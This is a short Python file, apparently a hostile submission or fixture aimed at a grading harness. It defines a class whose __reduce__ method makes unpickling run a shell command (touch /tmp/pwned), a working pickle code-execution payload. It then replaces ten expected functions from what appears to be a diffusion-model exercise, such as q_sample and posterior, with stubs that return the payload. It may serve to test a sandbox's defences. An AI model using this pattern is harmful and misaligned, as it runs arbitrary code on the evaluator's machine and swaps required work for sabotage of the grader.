# tries: return an object whose unpickling runs code
class Bomb:
    def __reduce__(self):
        return __import__("os").system, ("touch /tmp/pwned",)


names = ("one_step", "two_steps", "induction", "limit", "posterior", "snr", "log_snr", "alpha_bar_of", "q_sample", "walk")
globals().update({name: lambda *a, **k: Bomb() for name in names})
